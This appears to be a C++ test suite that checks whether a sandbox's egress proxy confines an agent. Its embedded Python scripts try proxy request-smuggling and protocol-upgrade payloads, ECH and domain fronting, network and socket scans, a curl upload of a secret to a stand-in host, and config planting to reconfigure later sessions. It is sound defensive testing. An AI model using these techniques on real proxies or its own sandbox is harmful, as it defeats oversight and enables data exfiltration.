// The ways around an allowlist that users of other tools have found, which no guarantee's own test tries: an
// attacker inside the jail tries each, and the lab's logs judge (docs/attacks.md has the whole list).
#include "base/text.hpp"
#include "lab.hpp"

namespace drydock::conformance {
namespace {

// Speaks to the session's proxy as no client should, naming hosts that are not allowed in every place but the
// one that counts. Each way prints its name and the first line of the answer; what arrives outside has the
// way's name in it.
constexpr const char* smuggle_script = R"py(import os, re, socket, ssl, sys, threading
host, port = re.match(r'http://([0-9.]+):(\d+)', os.environ['HTTPS_PROXY']).groups()
def hello(name):
    into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    try: ssl._create_unverified_context().wrap_bio(into, out, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError: pass
    return out.read()
def inner(way): return f'GET /{way} HTTP/1.1\r\nHost: {way}.denied.test\r\n\r\n'
def tunnel(way): return f'CONNECT {way}.denied.test:443 HTTP/1.1\r\n\r\n'
allowed = 'CONNECT allowed.test:443 HTTP/1.1\r\n'
ways = {
    'pipelined': (allowed + '\r\n' + tunnel('pipelined')).encode() + hello('pipelined.denied.test'),
    'after-refusal': (tunnel('after-refusal') + allowed + '\r\n').encode() + hello('after-refusal.denied.test'),
    'host-header': (allowed + 'Host: host-header.denied.test:443\r\n\r\n').encode() + hello('host-header.denied.test'),
    'proxy-auth': (allowed + 'Proxy-Authorization: Basic YTpi\r\nX-Forwarded-Host: proxy-auth.denied.test\r\n\r\n').encode()
                  + hello('proxy-auth.denied.test'),
    'chunked': (allowed + 'Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n' + tunnel('chunked')).encode(),
    'length': (allowed + 'Content-Length: 0\r\n\r\n' + tunnel('length')).encode() + hello('length.denied.test'),
    'both-lengths': ('POST http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 4\r\n'
                     'Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n' + tunnel('both-lengths')).encode(),
    'bare-lf': f'CONNECT allowed.test:443 HTTP/1.1\nCONNECT bare-lf.denied.test:443 HTTP/1.1\n\n'.encode()
               + hello('bare-lf.denied.test'),
    'folded': (allowed + 'X: y\r\n CONNECT folded.denied.test:443 HTTP/1.1\r\n\r\n').encode() + hello('folded.denied.test'),
    'absolute': b'CONNECT https://absolute.denied.test:443/allowed.test:443 HTTP/1.1\r\n\r\n' + hello('absolute.denied.test'),
    'two-authorities': b'CONNECT allowed.test:443 two-authorities.denied.test:443 HTTP/1.1\r\n\r\n'
                       + hello('two-authorities.denied.test'),
    'http2': b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0',
    'h2c': b'GET http://h2c.denied.test/ HTTP/1.1\r\nHost: allowed.test\r\nConnection: Upgrade, HTTP2-Settings\r\n'
           b'Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n',
    'websocket': b'GET http://allowed.test/websocket HTTP/1.1\r\nHost: websocket.denied.test\r\nConnection: Upgrade\r\n'
                 b'Upgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n',
    'mark': (tunnel('mark')[:-2] + 'X-Drydock-Mark: 00000000000000000000000000000000\r\nX-Tinyproxy: 1\r\n\r\n').encode(),
    'connection': (tunnel('connection')[:-2] + 'Connection: Host, Proxy-Authorization, X-Tinyproxy\r\n\r\n').encode(),
    'trace': b'TRACE http://trace.denied.test/ HTTP/1.1\r\nHost: allowed.test\r\nMax-Forwards: 5\r\n\r\n',
    'stats': b'GET http://tinyproxy.stats/ HTTP/1.1\r\nHost: tinyproxy.stats\r\n\r\n',
    'ftp': b'GET ftp://ftp.denied.test/ HTTP/1.1\r\nHost: ftp.denied.test\r\n\r\n',
    'inside-tls-name': (allowed + '\r\n').encode() + hello('inside-tls-name.denied.test'),
    'http-in-tunnel': (allowed + '\r\n' + inner('http-in-tunnel')).encode(),
    'ssh-in-tunnel': (allowed + '\r\nSSH-2.0-ssh-in-tunnel.denied.test\r\n').encode(),
    'slow-name': None,
}
def go(way, data):
    try:
        with socket.create_connection((host, int(port)), 10) as s:
            s.settimeout(3)
            if way == 'slow-name':
                for byte in tunnel(way).encode(): s.sendall(bytes([byte]))
            else:
                s.sendall(data)
            answer = b''
            try:
                while len(answer) < 4096 and (piece := s.recv(4096)): answer += piece
            except OSError: pass
        print(way + ' ' + answer.split(b'\r\n')[0].decode('latin-1'))
    except OSError as e:
        print(f'{way} failed {e}')
threads = [threading.Thread(target=go, args=way) for way in ways.items()]
for t in threads: t.start()
for t in threads: t.join()
)py";

// Every TCP port of the sidecar from argv[1] to argv[2], the usual ones of every other address of the
// network, every UDP port's answer to a datagram on the usual ones, and every unix socket in sight. Prints
// what answers.
constexpr const char* scan_script = R"(import os, re, select, socket, stat, struct, sys, time
host, port = re.match(r'http://([0-9.]+):(\d+)', os.environ['HTTPS_PROXY']).groups()
def scan(targets):
    answering = []
    for at in range(0, len(targets), 500):
        waiting = {}
        for target in targets[at:at + 500]:
            s = socket.socket()
            s.setblocking(False)
            if s.connect_ex(target) in (0, 115): waiting[s.fileno()] = (s, target)
            else: s.close()
        poll = select.poll()
        for fd in waiting: poll.register(fd, select.POLLOUT)
        left = set(waiting)
        while left and (events := poll.poll(1500)):
            for fd, _ in events:
                s, target = waiting[fd]
                poll.unregister(fd)
                left.discard(fd)
                if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0: answering.append(target)
        for s, _ in waiting.values(): s.close()
    return sorted(answering)
print('proxy', *(number for _, number in scan([(host, n) for n in range(int(sys.argv[1]), int(sys.argv[2]) + 1)])))
net = struct.unpack('!I', socket.inet_aton(host))[0] & ~7
own = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
own.connect((host, 9))
others = [a for i in range(1, 7) if (a := socket.inet_ntoa(struct.pack('!I', net + i))) not in (host, own.getsockname()[0])]
usual = [22, 53, 80, 111, 443, 631, 2375, 2376, 3128, 5000, 5355, 7777, 8080, 8888, 9999, 49152]
for target in scan([(a, n) for a in others for n in usual]): print('other', *target)
asked = []
for number in (53, 67, 69, 111, 123, 137, 161, 443, 500, 1900, 3128, 5353, 5355, 8888):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect((host, number))
    s.send(b'\0' * 12)
    asked.append((s, number))
time.sleep(0.5)
for s, number in asked:
    s.setblocking(False)
    try:
        if s.recv(100): print('udp', number)
    except OSError: pass
for line in open('/proc/net/unix').read().splitlines()[1:]:
    if len(line.split()) > 7: print('unix', line.split()[7])
for top, folders, files in os.walk('/', onerror=None):
    folders[:] = [f for f in folders if os.path.join(top, f) not in ('/proc', '/sys')]
    for name in files:
        try:
            if stat.S_ISSOCK(os.lstat(os.path.join(top, name)).st_mode): print('socket', os.path.join(top, name))
        except OSError: pass
print('done')
)";

class Attack : public Conformance {
 protected:
  void TearDown() override {
    // A test that failed in the middle must not fail the next one; one that passed has left nothing.
    if (HasFailure()) drydock("stop --all");
    Conformance::TearDown();
  }
};

TEST_P(Attack, NothingIsSmuggledThroughTheProxy) {
  write_project_file("smuggle.py", smuggle_script);
  const Log requests("requests");
  const Log queries("dns");
  const Outcome tried = run("-q --allow allowed.test", "python3 smuggle.py");
  ASSERT_EQ(tried.status, 0) << tried;
  EXPECT_GE(split(trim(tried.out), '\n').size(), 23U) << tried;
  for (const std::string& line : requests.lines_with({""}))
    EXPECT_EQ(line.find("denied.test"), std::string::npos) << line << tried;
  EXPECT_TRUE(queries.lines_with({"denied.test"}).empty())
      << queries.lines_with({"denied.test"}).front() << tried;
  EXPECT_TRUE(requests.lines_with({"http-in-tunnel"}).empty()) << tried;
  EXPECT_TRUE(requests.lines_with({"/websocket"}).empty()) << tried;
  for (const std::string way :
       {"after-refusal", "both-lengths", "absolute", "two-authorities", "http2", "h2c", "websocket", "mark",
        "connection", "trace", "stats", "ftp", "slow-name"}) {
    EXPECT_EQ(("\n" + tried.out).find("\n" + way + " HTTP/1.1 200"), std::string::npos) << way << tried;
    EXPECT_EQ(("\n" + tried.out).find("\n" + way + " HTTP/1.0 200"), std::string::npos) << way << tried;
  }
  // The control: where the hosts are allowed, the same attacker is seen in both logs.
  const Outcome control = run("-q --allow allowed.test --allow '*.denied.test'", "python3 smuggle.py");
  EXPECT_FALSE(queries.lines_with({"slow-name.denied.test"}).empty())
      << "the log would not have shown it " << control;
  EXPECT_NE(("\n" + control.out).find("\nslow-name HTTP/1.1 200"), std::string::npos) << control;
  const Outcome sent = run("-q --allow '*.denied.test'", "curl -sS https://x.denied.test/ -o /dev/null");
  EXPECT_FALSE(requests.lines_with({"x.denied.test"}).empty()) << "the log would not have shown it " << sent;
}

TEST_P(Attack, NothingButTheProxyAnswers) {
  write_project_file("scan.py", scan_script);
  const Outcome scanned = run("-q --allow allowed.test", "python3 scan.py 1 65535");
  EXPECT_EQ(scanned.out, "proxy 443 8888\ndone\n") << scanned;

  // The control: what listens there is found.
  const Outcome started = run("-q -d --allow allowed.test", "sleep 1000");
  ASSERT_EQ(started.status, 0) << started;
  const std::string id(trim(started.out));
  const std::string sidecar(trim(engine("ps -q --filter label=io.drydock.role=sidecar").out));
  const std::string pid(trim(engine("inspect --format '{{.State.Pid}}' " + sidecar).out));
  const Outcome listener = sh("setsid nsenter -t " + pid +
                              " -n python3 -c 'import socket, time; s = socket.create_server((\"\", 4242)); "
                              "time.sleep(60)' > /dev/null 2>&1 < /dev/null & echo $!; sleep 1");
  const Outcome found = drydock("exec " + id + " -- python3 scan.py 400 9000");
  EXPECT_NE(found.out.find("proxy 443 4242 8888"), std::string::npos) << found;
  sh("kill " + std::string(trim(listener.out)));
  EXPECT_EQ(drydock("stop --time 0 " + id).status, 0);
}

// On the network that leads out, and from the host, nobody is served.
TEST_P(Attack, ASidecarServesNobodyOnTheWayOut) {
  const Outcome started = run("-q -d --allow allowed.test", "sleep 1000");
  ASSERT_EQ(started.status, 0) << started;
  const std::string id(trim(started.out));
  const std::string sidecar(trim(engine("ps -q --filter label=io.drydock.role=sidecar").out));
  const std::string pid(trim(engine("inspect --format '{{.State.Pid}}' " + sidecar).out));
  const std::string agent(trim(engine("ps -q --filter label=io.drydock.role=agent").out));
  const Outcome networks =
      engine("inspect --format '{{range $k, $v := .NetworkSettings.Networks}}{{$k}} {{end}}' " + sidecar);
  std::string outer_network;
  const std::string inner_network(trim(
      engine("inspect --format '{{range $k, $v := .NetworkSettings.Networks}}{{$k}}{{end}}' " + agent).out));
  for (const std::string& name : split(trim(networks.out), ' ')) {
    if (name != inner_network) outer_network = name;
  }
  ASSERT_FALSE(outer_network.empty()) << networks;
  // From inside its own namespace an address that nobody listens on is told apart at once.
  const std::string dial =
      "import socket, sys\n"
      "for a in sys.argv[1:]:\n"
      "    for p in (8888, 443, 3128, 3129, 3130):\n"
      "        s = socket.socket(); s.settimeout(1)\n"
      "        try: s.connect((a, p)); print('answers', a, p)\n"
      "        except OSError: pass\n"
      "print('done')\n";
  write_project_file("dial.py", dial);
  std::string outer;
  const std::string inside =
      sh("nsenter -t " + pid +
         " -n ip -4 -o addr show | awk '$2 != \"lo\" { sub(\"/.*\", \"\", $4); print $4 }'")
          .out;
  const Outcome controls = drydock("exec " + id + " -- sh -c 'echo ${HTTPS_PROXY#http://}'");
  const std::string proxy(trim(controls.out).substr(0, trim(controls.out).find(':')));
  for (const std::string& address : split(trim(inside), '\n')) {
    if (address != proxy) outer = address;
  }
  ASSERT_FALSE(outer.empty()) << inside;
  const Outcome neighbour =
      sh_as_user("cd " + quote(project()) + "; " + backend() + " run --rm --network " + outer_network +
                 " -v " + quote(project()) + ":/p " + test_image + " python3 /p/dial.py " + outer);
  EXPECT_EQ(neighbour.out, "done\n") << neighbour;
  // From the sidecar's own namespace, where no firewall of the engine's is in the way.
  const Outcome own = sh("nsenter -t " + pid + " -n python3 " + quote(project() + "/dial.py") + " " + outer);
  EXPECT_EQ(own.out, "done\n") << own;
  const Outcome control =
      sh("nsenter -t " + pid + " -n python3 " + quote(project() + "/dial.py") + " " + proxy);
  EXPECT_NE(control.out.find("answers " + proxy + " 8888"), std::string::npos) << control;
  EXPECT_EQ(drydock("stop --time 0 " + id).status, 0);
}

// Gap (a), as docs/security.md names it: what an allowed host takes in has left.
TEST_P(Attack, GapA_AnUploadToAnAllowedHostArrives) {
  const Log requests("requests");
  const Outcome sent =
      run("-q --allow allowed.test",
          "sh -c 'echo the-secret | curl -sS --data-binary @- https://allowed.test/upload-marker; "
          "echo the-secret | curl -sS --data-binary @- https://denied.test/upload-marker'");
  EXPECT_NE(sent.out.find("the-secret"), std::string::npos) << "the server echoes what it got: " << sent;
  const auto arrived = requests.lines_with({"upload-marker", "\"method\": \"POST\""});
  ASSERT_EQ(arrived.size(), 1U) << sent;
  EXPECT_NE(arrived.front().find("\"host\": \"allowed.test\""), std::string::npos) << arrived.front();
}

// Gap (b): what is inside TLS is not seen, and neither is the inner name of an encrypted hello. What is
// outside is judged all the same.
TEST_P(Attack, GapB_AnotherHostInsideTlsArrivesAndAnOuterNameIsJudged) {
  write_project_file("ech.py", R"py(import os, re, socket, ssl, struct, sys
host, port = re.match(r'http://([0-9.]+):(\d+)', os.environ['HTTPS_PROXY']).groups()
def hello(outer, inner):
    into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    try: ssl._create_unverified_context().wrap_bio(into, out, server_hostname=outer).do_handshake()
    except ssl.SSLWantReadError: pass
    body = bytearray(out.read()[9:])
    at = 34
    at += 1 + body[at]
    at += 2 + int.from_bytes(body[at:at + 2], 'big')
    at += 1 + body[at]
    # encrypted_client_hello, of the kind "outer": suite, configuration, key, and what is encrypted
    data = b'\0' + struct.pack('!HHB', 1, 1, 7) + struct.pack('!H', 32) + bytes(32) + struct.pack('!H', len(inner)) + inner
    body += struct.pack('!HH', 0xfe0d, len(data)) + data
    body[at:at + 2] = (len(body) - at - 2).to_bytes(2, 'big')
    message = b'\1' + len(body).to_bytes(3, 'big') + bytes(body)
    return b'\x16\3\1' + struct.pack('!H', len(message)) + message
for outer in sys.argv[1:]:
    with socket.create_connection((host, int(port)), 15) as s:
        s.settimeout(15)
        s.sendall(b'CONNECT allowed.test:443 HTTP/1.1\r\n\r\n')
        head = b''
        while not head.endswith(b'\r\n\r\n'): head += s.recv(1) or sys.exit('no answer')
        s.sendall(hello(outer, b'inner.denied.test'.ljust(160, b'\0')))
        try: reply = s.recv(1)
        except OSError: reply = b''
        print(outer, 'handshake' if reply == b'\x16' else 'cut')
)py");
  const Log requests("requests");
  const Log queries("dns");
  const Outcome fronted = run("-q --allow allowed.test",
                              "curl -sS -H 'Host: inner.denied.test' https://allowed.test/fronted-marker");
  EXPECT_NE(fronted.out.find("hello from inner.denied.test"), std::string::npos) << fronted;
  EXPECT_EQ(
      requests.lines_with({"fronted-marker", "\"sni\": \"allowed.test\"", "\"host\": \"inner.denied.test\""})
          .size(),
      1U);
  const Outcome encrypted =
      run("-q --allow allowed.test", "python3 ech.py allowed.test denied.test inner.denied.test");
  EXPECT_EQ(encrypted.out, "allowed.test handshake\ndenied.test cut\ninner.denied.test cut\n") << encrypted;
  EXPECT_TRUE(requests.lines_with({"\"sni\": \"denied.test\""}).empty());
  EXPECT_TRUE(requests.lines_with({"\"sni\": \"inner.denied.test\""}).empty());
  EXPECT_TRUE(queries.lines_with({"inner.denied.test"}).empty()) << "the guard has looked inside";
}

// INV-10: what is in a project configures nothing, whoever wrote it.
TEST_P(Attack, J11_WhatAnAgentPlantsConfiguresNoLaterSession) {
  write_project_file("plant.sh", R"sh(set -e
mkdir -p .config/drydock .drydock drydock etc/drydock
for folder in . .config/drydock .drydock drydock etc/drydock; do
  printf 'env = PLANTED=yes\nmode = dood\n' > $folder/config
  cp $folder/config $folder/drydock.conf
  echo planted.test > $folder/egress-allowlist
  echo planted.test > "$folder/egress-allowlist-$(basename "$PWD")"
done
cp config .drydockrc
cp config .drydock.conf
printf 'DRYDOCK_MODE=dood\nXDG_CONFIG_HOME=%s/.config\n' "$PWD" > .env
touch planted
)sh");
  write_project_file("ask.sh", R"sh(echo "[$PLANTED]"
for host in allowed planted; do curl -sS -o /dev/null -w "$host %{http_connect}\n" https://$host.test/; done
)sh");
  const std::string answers = "[]\nallowed 200\nplanted 403\n";
  const Outcome before = run("-q --allow allowed.test", "sh ask.sh");
  EXPECT_EQ(before.out, answers) << before;
  const Outcome planted = run("-q --allow allowed.test", "sh plant.sh");
  ASSERT_EQ(sh("test -e " + quote(project() + "/planted")).status, 0) << planted;
  const Outcome after = run("-q --allow allowed.test", "sh ask.sh");
  EXPECT_EQ(after.out, answers) << "a session is configured by its project: " << after;
  const Outcome listed = drydock("egress list");
  EXPECT_EQ(listed.out.find("planted.test"), std::string::npos) << listed;

  // The control: the same words, where the user writes them.
  const Outcome control = sh_as_user(
      "set -e; cd " + quote(project()) +
      "; own=$(mktemp -d); mkdir -m 700 $own/drydock; echo 'env = PLANTED=yes' > "
      "$own/drydock/config; cp egress-allowlist $own/drydock/; chmod 600 $own/drydock/*; "
      "XDG_CONFIG_HOME=$own " +
      drydock_words() + " run -q --image " + test_image + " --allow allowed.test -- sh ask.sh; rm -r $own");
  EXPECT_EQ(control.out, "[yes]\nallowed 200\nplanted 200\n") << control;
}

INSTANTIATE_TEST_SUITE_P(Backend, Attack, ::testing::Values("podman", "docker"),
                         [](const auto& backend) { return backend.param; });

}  // namespace
}  // namespace drydock::conformance
